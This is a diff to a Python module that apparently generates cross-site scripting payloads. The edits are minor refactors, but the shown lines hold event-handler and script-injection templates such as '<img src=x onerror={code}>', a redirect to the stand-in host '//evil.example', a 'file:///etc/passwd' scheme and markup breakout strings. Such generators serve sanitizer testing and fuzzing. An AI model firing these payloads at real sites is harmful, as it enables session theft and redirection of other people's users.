@@ -11,14 +11,14 @@ OUTSIDE = "//evil.example"
 
 TAGS = (
     "a abbr audio body button canvas custom-x details div embed form iframe img input isindex "
-    "keygen label link marquee math menu object p script select style svg table template textarea "
-    "video xss"
-).split()
+    "keygen label link marquee math menu object p script select style svg table template "
+    "textarea video xss"
+)
 EVENTS = (
     "onabort onanimationstart onauxclick onbeforetoggle onblur oncanplay onclick oncontextmenu "
     "onerror onfocus onfocusin onhashchange oninput onkeydown onload onloadstart onmouseover "
     "onpageshow onpointerenter onscroll onstart ontoggle ontransitionend onwheel"
-).split()
+)
 SHAPES = [
     "<{tag} {event}={code}>",
     "<{tag}/{event}='{code}' src=x autofocus tabindex=0>",
@@ -41,7 +41,7 @@ SCHEMES = [
     "file:///etc/passwd",
     "//evil.example",
     "/\\evil.example",
-    "https://shop.example/#\"onclick={code} x=\"",
+    'https://shop.example/#"onclick={code} x="',
 ]
 PLACES = [
     "[x]({})",
@@ -62,7 +62,8 @@ PLACES = [
     "<base href='{}'>",
     "<meta http-equiv=refresh content='0;url={}'>",
 ]
-WAYS_OUT = ["\"'>", "</textarea>", "</title>", "-->", "]]>", "</style>", "{{", "${", "```\n", "**", "\u202e"]
+WAYS_OUT = ["\"'>", "</textarea>", "</title>", "-->", "]]>", "</style>"]
+WAYS_OUT += ["{{", "${", "```\n", "**", "\u202e"]
 WHOLE = [
     "<script>{code}</script>",
     "<img src=x onerror={code}>",
@@ -79,7 +80,7 @@ def payloads() -> list[str]:
     """All of them, in one order."""
     tags = (
         shape.format(tag=tag, upper=tag.upper(), event=event, code=ALARM, outside=OUTSIDE)
-        for shape, tag, event in itertools.product(SHAPES, TAGS, EVENTS)
+        for shape, tag, event in itertools.product(SHAPES, TAGS.split(), EVENTS.split())
     )
     addresses = (
         place.replace("{}", scheme.format(code=ALARM))
